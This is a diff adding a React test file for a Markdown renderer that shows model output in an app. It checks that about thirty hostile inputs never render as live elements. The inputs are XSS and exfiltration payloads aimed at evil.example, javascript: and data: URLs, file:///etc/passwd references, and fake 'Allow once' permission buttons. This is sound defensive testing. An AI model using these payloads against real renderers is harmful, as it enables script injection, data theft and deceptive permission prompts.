@@ -1,0 +1,130 @@
+import { act, fireEvent, render, screen } from "@testing-library/react";
+import { describe, expect, it } from "vitest";
+import { ServicesContext } from "../../hooks/services-context.js";
+import { DrawnStage } from "../../testing/drawn-window.js";
+import { Markdown } from "./markdown.js";
+
+const FORBIDDEN =
+  "img, script, iframe, object, embed, form, input, textarea, select, style, link, meta, svg:not([aria-hidden]), a, video, audio, base, [style], [onclick], [onerror], [onload], [href], [src], [srcset]";
+
+// Each may not fetch anything, run anything, or look like a control of the window's.
+const HOSTILE: readonly (readonly [string, string])[] = [
+  ["an image", "![x](https://evil.example/track.png)"],
+  ["an image by reference", "![x][1]\n\n[1]: https://evil.example/track.png"],
+  ["an image of a file", "![x](file:///etc/passwd)"],
+  ["an image with data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
+  ["an image in a link", "[![x](https://evil.example/a.png)](https://evil.example)"],
+  ["an HTML image", '<img src="https://evil.example/a.png" onerror="alert(1)">'],
+  ["a script", "<script>fetch('https://evil.example')</script>"],
+  ["a script in a paragraph", "Hello <script src=//evil.example></script> there"],
+  ["a frame", '<iframe src="https://evil.example"></iframe>'],
+  ["an SVG", '<svg onload="alert(1)"><image href="https://evil.example"/></svg>'],
+  ["a style", "<style>body{background:url(https://evil.example)}</style>"],
+  ["a style attribute", '<p style="background:url(https://evil.example)">x</p>'],
+  ["a form", '<form action="https://evil.example"><input name=key><button>Allow once</button></form>'],
+  ["a button of ours", '<button class="bg-accent">Allow once</button>'],
+  ["a script address", "[Allow once](javascript:alert(1))"],
+  ["a hidden script address", "[x](java&#115;cript:alert(1))"],
+  ["a data address", "[x](data:text/html,<script>alert(1)</script>)"],
+  ["a file address", "[x](file:///etc/passwd)"],
+  ["an app address", "[x](app://copilot/index.html)"],
+  ["an automatic link", "https://evil.example and <https://evil.example> and www.evil.example"],
+  ["a mail address", "a@evil.example <mailto:a@evil.example>"],
+  ["a footnote", "x[^1]\n\n[^1]: ![y](https://evil.example/a.png)"],
+  ["a task list", "- [ ] Allow once\n- [x] done"],
+  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ["a base", '<base href="https://evil.example">'],
+  ["a definition that shadows", "[a]\n\n[a]: javascript:alert(1)"],
+  ["a comment that opens", "<!-- <img src=https://evil.example> "],
+  ["CDATA", "<![CDATA[<img src=https://evil.example>]]>"],
+  ["HTML in a table", "| a |\n| - |\n| <img src=https://evil.example> |"],
+  ["a picture of a card", "### Allow file-write?\n\n**[Allow once](https://evil.example)**"],
+];
+
+function drawn(text: string, streaming: boolean): HTMLElement {
+  const stage = new DrawnStage();
+  const { container } = render(
+    <ServicesContext value={stage.services}>
+      <Markdown text={text} streaming={streaming} />
+    </ServicesContext>,
+  );
+  return container;
+}
+
+function forbidden(element: HTMLElement): readonly string[] {
+  return [...element.querySelectorAll(FORBIDDEN)].map((found) => found.outerHTML);
+}
+
+describe("Markdown from a model (quality.md §4)", () => {
+  it.each(HOSTILE)("becomes nothing that fetches, runs or pretends: %s", (_, text) => {
+    expect(forbidden(drawn(text, false))).toEqual([]);
+  });
+
+  it.each(HOSTILE)("nor while it is coming, wherever it is cut: %s", (_, text) => {
+    const { services } = new DrawnStage();
+    const part = (length: number) => (
+      <ServicesContext value={services}>
+        <Markdown text={text.slice(0, length)} streaming />
+      </ServicesContext>
+    );
+    const { container, rerender } = render(part(0));
+    for (let length = 1; length <= text.length; length += 1) {
+      rerender(part(length));
+      expect(forbidden(container)).toEqual([]);
+    }
+  });
+
+  it("has buttons only as links out, and each says where it leads", () => {
+    const element = drawn("[Allow once](https://evil.example/x) and `code`", false);
+    const buttons = [...element.querySelectorAll("button")];
+    expect(buttons.map((button) => [button.getAttribute("role"), button.textContent])).toEqual([
+      ["link", "Allow once(evil.example)"],
+    ]);
+  });
+
+  it("shows the host that would really be asked", () => {
+    drawn("[apple](https://xn--80ak6aa92e.com) [user](https://apple.com@evil.example/)", false);
+    expect(screen.getAllByRole("link").map((link) => link.textContent)).toEqual([
+      "apple(xn--80ak6aa92e.com)",
+      "user(evil.example)",
+    ]);
+  });
+
+  it("opens a link only by asking main", async () => {
+    const stage = new DrawnStage();
+    stage.draw(<Markdown text="[a](https://example.com/b)" streaming={false} />);
+    await act(async () => fireEvent.click(screen.getByRole("link")));
+    expect(stage.main.callsOf("app:openLink")).toEqual([{ url: "https://example.com/b" }]);
+  });
+
+  it("shows raw HTML as the text it is", () => {
+    expect(drawn("Hello <b onclick=x>there</b>", false).textContent).toBe("Hello <b onclick=x>there</b>");
+  });
+});
+
+describe("how an answer reads", () => {
+  it("has headings below those of the window, lists, tables and quotations", () => {
+    const element = drawn(
+      "# One\n\n## Two\n\n- a\n\n1. b\n\n> q\n\n| h |\n| -: |\n| c |\n\n~~d~~ **e** *f*",
+      false,
+    );
+    const tags = ["h3", "h4", "ul > li", "ol > li", "blockquote", "th.end", "td.end", "del", "strong", "em"];
+    expect(tags.filter((tag) => element.querySelector(tag) === null)).toEqual([]);
+    expect(element.querySelectorAll("h1, h2").length).toBe(0);
+  });
+
+  it("names the language of code and copies it to the letter", async () => {
+    const stage = new DrawnStage();
+    stage.draw(<Markdown text={"```ts\nconst a = `b`;\n\n  c\n```"} streaming={false} />);
+    expect(screen.getByLabelText("Code, ts").textContent).toBe("const a = `b`;\n\n  c");
+    await act(async () => fireEvent.click(screen.getByRole("button", { name: "Copy" })));
+    expect(stage.ports.copied).toEqual(["const a = `b`;\n\n  c"]);
+    expect(screen.getByRole("button", { name: "Copied" })).toBeTruthy();
+  });
+
+  it("draws a fence that is still open as code, and half a fence not at all", () => {
+    const element = drawn("Look:\n\n```ts\nconst a = 1;\n``", true);
+    expect(element.querySelector("pre")?.textContent).toBe("const a = 1;");
+    expect(drawn("Look:\n\n``", true).textContent).toBe("Look:");
+  });
+});
